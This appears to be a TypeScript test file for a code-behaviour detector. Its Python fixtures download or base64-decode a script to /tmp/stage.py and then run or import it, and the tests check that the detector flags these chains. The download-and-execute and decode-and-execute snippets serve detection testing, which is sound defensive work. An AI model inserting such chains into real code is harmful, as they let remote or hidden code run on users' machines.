/** Files that the code writes and then loads as code, by their path or by their name. */
import { expectBehaviors } from './python-sequence-helper.js';

const FETCHED = `import os, sys, urllib.request
path = "/tmp/stage.py"
open(path, "wb").write(urllib.request.urlopen("https://files.example.com/s").read())
`;
// import os; os.system('whoami')
const DECODED = `import base64
open("/tmp/stage.py", "wb").write(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3dob2FtaScp"))
`;

const CASES: readonly (readonly [name: string, code: string, wanted: readonly string[]])[] = [
  ['runpy of a download', `${FETCHED}import runpy\nrunpy.run_path(path)`, ['evaluate-downloaded']],
  ['execfile of a download', `${FETCHED}execfile(path)`, ['evaluate-downloaded']],
  [
    'runpy of what was decoded',
    `${DECODED}import runpy\nrunpy.run_path("/tmp/stage.py")`,
    ['evaluate-decoded', 'run-shell hidden'],
  ],
  [
    'runpy of another file',
    'import runpy\nrunpy.run_path("/opt/other.py")',
    ['evaluate', '!evaluate-downloaded', '!evaluate-decoded'],
  ],
  [
    'a download loaded by its path',
    `${FETCHED}import importlib.util\nspec = importlib.util.spec_from_file_location("stage", path)`,
    ['dynamic-import carries:download'],
  ],
  [
    'a download imported by its name',
    `${FETCHED}sys.path.insert(0, "/tmp")\nimport stage`,
    ['dynamic-import carries:download'],
  ],
  [
    'what was decoded imported by its name',
    `${DECODED}__import__("stage")`,
    ['dynamic-import carries:decoded', 'run-shell hidden'],
  ],
  [
    'a module written from plain text',
    'open("/tmp/version.py", "w").write("v = 1")\nimport version',
    ['!dynamic-import'],
  ],
  ['another module', `${FETCHED}import other`, ['!dynamic-import']],
];

describe('python: written and loaded', () => {
  for (const [name, code, wanted] of CASES) {
    it(name, () => expectBehaviors(code, wanted));
  }
});
